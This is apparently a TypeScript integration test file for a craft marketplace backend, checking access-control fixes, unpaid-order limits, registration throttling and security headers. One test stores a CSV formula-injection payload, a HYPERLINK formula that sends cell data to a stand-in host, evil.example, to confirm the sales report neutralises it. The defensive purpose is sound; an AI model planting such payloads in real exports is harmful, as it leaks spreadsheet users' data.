import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { NestFastifyApplication } from '@nestjs/platform-fastify';
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { newId } from '@pk/core';
import { createGatewayApp } from '../apps/gateway/src/gateway-app';
import { bootSystem, TestSystem } from './support/apps';
import { FixtureListing, insertArtisan, insertListing } from './support/catalog-fixtures';
import { queryDb } from './support/db';
import { Session, bearer, register, registerWithRoles, uniqueEmail } from './support/http';
import {
  Buyer, checkout, checkoutBody, checkoutOk, confirmTransfer, fillCart, getOrder, newBuyer, newCurator, variantStock, waitForStatus,
} from './support/orders';

// Issue 17, access findings: each describe is one finding, fixed as a class. Every test here
// fails on the code before the fix (see the commit message for what each answered then).

const SHIPPING = 'JNE:REG';

describe('hardening: access', () => {
  let sys: TestSystem;
  let curator: Session;
  let artisan: Session;
  let artisanId: string;
  let kain: FixtureListing;

  beforeAll(async () => {
    sys = await bootSystem('hardening-access', {
      services: ['catalog', 'orders', 'payments'],
      // The documented defaults, which test systems otherwise lift.
      env: { UNPAID_TRANSFER_MAX_ORDERS: '3', UNPAID_TRANSFER_MAX_UNITS: '5', UNPAID_TRANSFER_MAX_STOCK_PERCENT: '50' },
    });
    curator = await newCurator(sys);
    artisan = await registerWithRoles(sys, ['artisan']);
    artisanId = await insertArtisan(sys, artisan.user.id, { shopSlug: `tenun-${newId().slice(-8)}` });
    kain = await insertListing(sys, artisanId, { variants: [{ price: 350_000n, stock: 200 }] });
  });
  afterAll(async () => {
    await sys?.close();
  });

  const api = () => request(sys.http);
  const shippingOf = (...artisanIds: string[]) => Object.fromEntries(artisanIds.map((a) => [a, SHIPPING]));

  async function paidOrderOf(buyer: Buyer) {
    const { order, payment } = await checkoutOk(sys, buyer, checkoutBody(buyer, shippingOf(artisanId)));
    await confirmTransfer(sys, curator, payment.id);
    return waitForStatus(sys, buyer.session, order.id, 'paid', 20_000);
  }

  describe('1. a curator is no owner on the buyer routes; curators cancel on their own, as themselves', () => {
    it('a curator cancelling through the buyer route gets 404 and nothing changes (it used to cancel and refund as the buyer)', async () => {
      const buyer = await newBuyer(sys, [{ variantId: kain.variants[0].id, quantity: 2 }]);
      const order = await paidOrderOf(buyer);
      const stockBefore = await variantStock(sys, kain.variants[0].id);

      const refused = await api().post(`/api/v1/orders/${order.id}/cancel`).set(bearer(curator)).send({ reason: 'salah kirim' });
      expect(refused.status).toBe(404);
      expect(refused.body.error.code).toBe('not_found');
      // The same answer for reading it through the buyer's route.
      expect((await api().get(`/api/v1/orders/${order.id}`).set(bearer(curator))).status).toBe(404);

      const after = await getOrder(sys, buyer.session, order.id);
      expect(after).toMatchObject({ status: 'paid', refunded: '0', paymentStatus: 'paid' });
      expect(after.history.some((h) => h.to === 'cancelled')).toBe(false);
      expect(await variantStock(sys, kain.variants[0].id)).toBe(stockBefore);
    });

    it("a curator cancels on /curation with a required reason, recorded under the curator's name, refunded like a buyer's cancellation", async () => {
      const buyer = await newBuyer(sys, [{ variantId: kain.variants[0].id, quantity: 3 }]);
      const order = await paidOrderOf(buyer);
      const stockBefore = await variantStock(sys, kain.variants[0].id);

      const noReason = await api().post(`/api/v1/curation/orders/${order.id}/cancel`).set(bearer(curator)).send({});
      expect(noReason.status).toBe(400);
      expect(noReason.body.error.code).toBe('validation_failed');
      expect(noReason.body.error.details).toEqual([expect.objectContaining({ field: 'reason' })]);
      // A buyer cannot use the curators' route on their own order either.
      expect((await api().post(`/api/v1/curation/orders/${order.id}/cancel`).set(bearer(buyer.session)).send({ reason: 'tidak jadi' })).status).toBe(403);

      const res = await api().post(`/api/v1/curation/orders/${order.id}/cancel`).set(bearer(curator)).send({ reason: 'perajin tidak dapat memenuhi pesanan' });
      expect(res.status).toBe(200);
      expect(res.body).toMatchObject({ status: 'cancelled', paymentStatus: 'refunded', refunded: order.total });
      const last = res.body.history.filter((h: { to: string; shipmentId: string | null }) => h.to === 'cancelled' && h.shipmentId === null);
      expect(last).toEqual([expect.objectContaining({ by: 'curator', byUserId: curator.user.id, note: 'dibatalkan oleh kurator: perajin tidak dapat memenuhi pesanan' })]);

      const rows = await queryDb<{ actor_id: string; actor_role: string }>(sys, `SELECT actor_id, actor_role FROM orders.history WHERE order_id = $1 AND to_status = 'cancelled' AND from_status <> to_status`, [order.id]);
      expect(rows.length).toBeGreaterThan(1); // the order and its shipment (the refund's own note is the system's)
      expect(rows).toEqual(rows.map(() => ({ actor_id: curator.user.id, actor_role: 'curator' })));
      expect(await variantStock(sys, kain.variants[0].id)).toBe(stockBefore + 3);

      // The buyer reads who (by role, never which user) and why.
      const seen = await getOrder(sys, buyer.session, order.id);
      expect(seen.cancelReason).toBe('dibatalkan oleh kurator: perajin tidak dapat memenuhi pesanan');
      const entry = seen.history.find((h) => h.to === 'cancelled' && h.shipmentId === null)!;
      expect(entry.by).toBe('curator');
      expect(entry).not.toHaveProperty('byUserId');
    });

    it("the buyer still cancels their own order, as the buyer; a curator reads any order and payment only on the curators' routes", async () => {
      const buyer = await newBuyer(sys, [{ variantId: kain.variants[0].id, quantity: 1 }]);
      const { order, payment } = await checkoutOk(sys, buyer, checkoutBody(buyer, shippingOf(artisanId)));

      expect((await api().get(`/api/v1/payments/${payment.id}`).set(bearer(curator))).status).toBe(404);
      expect((await api().get(`/api/v1/curation/payments/${payment.id}`).set(bearer(curator)).expect(200)).body).toMatchObject({ id: payment.id });
      expect((await api().get(`/api/v1/curation/payments/${payment.id}`).set(bearer(buyer.session))).status).toBe(403);
      const read = (await api().get(`/api/v1/curation/orders/${order.id}`).set(bearer(curator)).expect(200)).body;
      expect(read.payment).toMatchObject({ id: payment.id });
      expect(read.history[0]).toMatchObject({ by: 'buyer', byUserId: buyer.session.user.id });

      const mine = await api().post(`/api/v1/orders/${order.id}/cancel`).set(bearer(buyer.session)).send({ reason: 'salah pilih warna' });
      expect(mine.status).toBe(200);
      expect(mine.body.status).toBe('cancelled');
      expect(mine.body.history.find((h: { to: string; shipmentId: string | null }) => h.to === 'cancelled' && !h.shipmentId)).toMatchObject({ by: 'buyer' });
    });
  });

  describe('2. CSV formula neutralising', () => {
    it("the curator sales report writes a shop named =HYPERLINK(...) as text, and its figures as numbers", async () => {
      const evil = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")';
      const owner = await registerWithRoles(sys, ['artisan']);
      const shop = await insertArtisan(sys, owner.user.id, { shopSlug: `evil-${newId().slice(-8)}` });
      await queryDb(sys, `UPDATE catalog.artisans SET shop_name = $2 WHERE id = $1`, [shop, evil]);
      const listing = await insertListing(sys, shop, { variants: [{ price: 125_000n, stock: 10 }] });
      const buyer = await newBuyer(sys, [{ variantId: listing.variants[0].id, quantity: 2 }]);
      const { order, payment } = await checkoutOk(sys, buyer, checkoutBody(buyer, shippingOf(shop)));
      await confirmTransfer(sys, curator, payment.id);
      await waitForStatus(sys, buyer.session, order.id, 'paid', 20_000);

      const res = await api().get('/api/v1/curation/reports/sales').query({ groupBy: 'artisan', format: 'csv' }).set(bearer(curator)).expect(200);
      expect(res.headers['content-type']).toMatch(/^text\/csv/);
      const rows = parse(res.text, { columns: true }) as Array<Record<string, string>>;
      const row = rows.find((r) => r.key === shop);
      expect(row).toBeDefined();
      expect(row!.label).toBe(`'${evil}`);
      expect(row!.gmv).toBe('250000');
      // No cell of the file starts like a formula.
      for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+$)/);
    });
  });

  describe('3. an artisan cannot buy their own listing', () => {
    it('adding one of their own pieces to the cart is a 409 own_listing naming the variant; nothing is added', async () => {
      const res = await api().post('/api/v1/cart/lines').set(bearer(artisan)).send({ variantId: kain.variants[0].id, quantity: 1 });
      expect(res.status).toBe(409);
      expect(res.body.error).toMatchObject({ code: 'own_listing', details: { field: 'variantId', variantId: kain.variants[0].id, listingId: kain.id } });
      expect((await api().get('/api/v1/cart').set(bearer(artisan)).expect(200)).body.totals.lines).toBe(0);

      // Another shop's piece is fine.
      const other = await registerWithRoles(sys, ['artisan']);
      const otherShop = await insertArtisan(sys, other.user.id, { shopSlug: `perak-${newId().slice(-8)}` });
      const cincin = await insertListing(sys, otherShop, { variants: [{ price: 90_000n, stock: 5 }] });
      await api().post('/api/v1/cart/lines').set(bearer(artisan)).send({ variantId: cincin.variants[0].id, quantity: 1 }).expect(200);
      await api().delete(`/api/v1/cart/lines/${cincin.variants[0].id}`).set(bearer(artisan)).expect(200);
    });

    it('a cart that holds one of their own pieces anyway (from before) is refused at checkout with own_listing; no order, no stock held', async () => {
      const session = await registerWithRoles(sys, ['artisan']);
      const shop = await insertArtisan(sys, session.user.id, { shopSlug: `ukir-${newId().slice(-8)}` });
      const patung = await insertListing(sys, shop, { variants: [{ price: 500_000n, stock: 4 }] });
      const address = (await api().post('/api/v1/addresses').set(bearer(session)).send({
        recipient: 'I Made Ukir', phone: '081234567890', street: 'Jl. Raya Mas 3', district: 'Ubud', city: 'Kabupaten Gianyar', province: 'Bali', postalCode: '80571',
      }).expect(201)).body.id as string;
      const cartId = newId();
      await queryDb(sys, `INSERT INTO orders.carts (id, buyer_id) VALUES ($1, $2)`, [cartId, session.user.id]);
      await queryDb(sys, `INSERT INTO orders.cart_lines (cart_id, variant_id, quantity, seen_price) VALUES ($1, $2, 2, 500000)`, [cartId, patung.variants[0].id]);

      const res = await checkout(sys, { session, addressId: address }, { addressId: address, shipping: { [shop]: SHIPPING }, paymentMethod: 'bank_transfer' });
      expect(res.status).toBe(409);
      expect(res.body.error).toMatchObject({ code: 'own_listing', details: { field: 'lines', problems: [{ variantId: patung.variants[0].id, listingId: patung.id }] } });
      expect(await queryDb(sys, `SELECT 1 FROM orders.orders WHERE buyer_id = $1`, [session.user.id])).toEqual([]);
      expect(await variantStock(sys, patung.variants[0].id)).toBe(4);
    });

    it('an anonymous cart merged at sign-in leaves their own pieces out and says so', async () => {
      const { token } = (await api().post('/api/v1/cart/anonymous').expect(201)).body as { token: string };
      await api().post('/api/v1/cart/lines').set('X-Cart-Token', token).send({ variantId: kain.variants[0].id, quantity: 1 }).expect(200);
      const merged = await api().post('/api/v1/cart/merge').set(bearer(artisan)).send({ token }).expect(200);
      expect(merged.body.merged).toMatchObject({ lines: 0, ownListings: [kain.variants[0].id] });
      expect(merged.body.totals.lines).toBe(0);
    });
  });

  describe('4. what one buyer may hold unpaid by bank transfer', () => {
    it('of one variant, at most the larger of 5 and half its stock: 20 of 45 pass, 20 more are a 409 unpaid_units_limit; nothing more is held', async () => {
      const stock45 = await insertListing(sys, artisanId, { variants: [{ price: 150_000n, stock: 45 }] });
      const variantId = stock45.variants[0].id;
      const hoarder = await newBuyer(sys, [{ variantId, quantity: 20 }]);
      await checkoutOk(sys, hoarder, checkoutBody(hoarder, shippingOf(artisanId)));
      expect(await variantStock(sys, variantId)).toBe(25);

      await fillCart(sys, hoarder, [{ variantId, quantity: 20 }]);
      const res = await checkout(sys, hoarder, checkoutBody(hoarder, shippingOf(artisanId)));
      expect(res.status).toBe(409);
      expect(res.body.error).toMatchObject({
        code: 'unpaid_units_limit',
        details: { field: 'paymentMethod', problems: [{ variantId, requested: 20, alreadyUnpaid: 20, limit: 22 }] },
      });
      expect(res.body.error.message).toMatch(/pay or cancel your earlier orders/);
      expect(await variantStock(sys, variantId)).toBe(25);
      expect((await api().get('/api/v1/cart').set(bearer(hoarder.session)).expect(200)).body.totals.items).toBe(20);

      // Within the limit it goes through: 2 more make 22.
      await api().patch(`/api/v1/cart/lines/${variantId}`).set(bearer(hoarder.session)).send({ quantity: 2 }).expect(200);
      await checkoutOk(sys, hoarder, checkoutBody(hoarder, shippingOf(artisanId)));
      expect(await variantStock(sys, variantId)).toBe(23);
    });

    it('at most 3 unpaid bank-transfer orders: the 4th is a 409 unpaid_orders_limit naming them; after cancelling one it goes through', async () => {
      const buyer = await newBuyer(sys);
      const numbers: string[] = [];
      const ids: string[] = [];
      for (let i = 0; i < 3; i++) {
        await fillCart(sys, buyer, [{ variantId: kain.variants[0].id, quantity: 1 }]);
        const { order } = await checkoutOk(sys, buyer, checkoutBody(buyer, shippingOf(artisanId)));
        numbers.push(order.number);
        ids.push(order.id);
      }
      await fillCart(sys, buyer, [{ variantId: kain.variants[0].id, quantity: 1 }]);
      const stockBefore = await variantStock(sys, kain.variants[0].id);
      const fourth = await checkout(sys, buyer, checkoutBody(buyer, shippingOf(artisanId)));
      expect(fourth.status).toBe(409);
      expect(fourth.body.error).toMatchObject({ code: 'unpaid_orders_limit', details: { field: 'paymentMethod', limit: 3, unpaidOrders: numbers } });
      expect(await variantStock(sys, kain.variants[0].id)).toBe(stockBefore);

      await api().post(`/api/v1/orders/${ids[0]}/cancel`).set(bearer(buyer.session)).send({}).expect(200);
      await checkoutOk(sys, buyer, checkoutBody(buyer, shippingOf(artisanId)));
    });

    it('two checkouts at once at the limit: one order, one 409 (the check holds under a per-buyer lock)', async () => {
      const buyer = await newBuyer(sys);
      for (let i = 0; i < 2; i++) {
        await fillCart(sys, buyer, [{ variantId: kain.variants[0].id, quantity: 1 }]);
        await checkoutOk(sys, buyer, checkoutBody(buyer, shippingOf(artisanId)));
      }
      await fillCart(sys, buyer, [{ variantId: kain.variants[0].id, quantity: 1 }]);
      const answers = await Promise.all([0, 1].map(() => checkout(sys, buyer, checkoutBody(buyer, shippingOf(artisanId)))));
      expect(answers.map((a) => a.status).sort()).toEqual([201, 409]);
      const [{ count }] = await queryDb<{ count: number }>(sys,
        `SELECT count(*)::int AS count FROM orders.orders WHERE buyer_id = $1 AND status = 'pending_payment'`, [buyer.session.user.id]);
      expect(count).toBe(3);
    });
  });
});

describe('hardening: registration throttle and security headers (two gateway replicas, one Redis)', () => {
  let sys: TestSystem;
  let replica: NestFastifyApplication;
  let webDir: string;

  beforeAll(async () => {
    // Gateway only: registration and headers are the gateway's. TRUST_PROXY so X-Forwarded-For names the client.
    sys = await bootSystem('hardening-register', { services: [], env: { REGISTER_MAX_PER_IP: '5', REGISTER_WINDOW_SECONDS: '600', TRUST_PROXY: 'on' } });
    webDir = mkdtempSync(path.join(tmpdir(), 'pk-web-'));
    mkdirSync(path.join(webDir, 'assets'));
    writeFileSync(path.join(webDir, 'index.html'), '<!doctype html><html><head><title>PK</title></head><body><div id="root"></div></body></html>');
    replica = await createGatewayApp(sys.config, { shutdownHooks: false, webDir });
    await replica.listen(0, '127.0.0.1');
  });
  afterAll(async () => {
    await replica?.close();
    await sys?.close();
    if (webDir) rmSync(webDir, { recursive: true, force: true });
  });

  const registerFrom = (server: unknown, ip: string, email = uniqueEmail('reg')) =>
    request(server as never).post('/api/v1/auth/register').set('X-Forwarded-For', ip).send({ email, password: 'correct-horse-battery', displayName: 'Ketut Test' });

  it('5 registrations per address per window across both replicas; the 6th is a 429 registration_throttled with Retry-After and creates nothing', async () => {
    const servers = [sys.http, replica.getHttpServer()];
    for (let i = 0; i < 5; i++) expect((await registerFrom(servers[i % 2], '203.0.113.7')).status).toBe(201);
    const email = uniqueEmail('reg');
    const refused = await registerFrom(servers[1], '203.0.113.7', email);
    expect(refused.status).toBe(429);
    expect(refused.body.error.code).toBe('registration_throttled');
    const retryAfter = Number(refused.headers['retry-after']);
    expect(retryAfter).toBeGreaterThan(0);
    expect(retryAfter).toBeLessThanOrEqual(600);
    expect(await queryDb(sys, `SELECT 1 FROM identity.users WHERE email = $1`, [email])).toEqual([]);
    expect((await registerFrom(servers[0], '203.0.113.7')).status).toBe(429);
    // A forged first entry does not make a new address: the proxy's own entry (the last) is the client.
    expect((await registerFrom(servers[0], '198.18.0.1, 203.0.113.7')).status).toBe(429);
    // Another address is not held back; signing in is not a registration.
    expect((await registerFrom(servers[0], '198.51.100.9')).status).toBe(201);
    const someone = await register(sys);
    await request(sys.http).post('/api/v1/auth/login').set('X-Forwarded-For', '203.0.113.7').send({ email: someone.user.email, password: 'correct-horse-battery' }).expect(200);
  });

  it('the web app is served with a CSP of its own origins, no framing, nosniff and a referrer policy; the API with a deny-all CSP', async () => {
    const page = await request(replica.getHttpServer()).get('/orders').expect(200);
    expect(page.headers['content-type']).toMatch(/^text\/html/);
    const csp = String(page.headers['content-security-policy']);
    expect(csp).toContain("default-src 'self'");
    expect(csp).toContain("script-src 'self'");
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).toContain("object-src 'none'");
    expect(csp).not.toContain('unsafe-inline');
    expect(csp).not.toContain('unsafe-eval');
    expect(page.headers).toMatchObject({ 'x-frame-options': 'DENY', 'x-content-type-options': 'nosniff', 'referrer-policy': 'strict-origin-when-cross-origin' });

    const json = await request(replica.getHttpServer()).get('/api/v1/auth/me').expect(401);
    expect(json.headers['content-security-policy']).toBe("default-src 'none'; frame-ancestors 'none'");
    expect(json.headers).toMatchObject({ 'x-frame-options': 'DENY', 'x-content-type-options': 'nosniff' });
  });
});
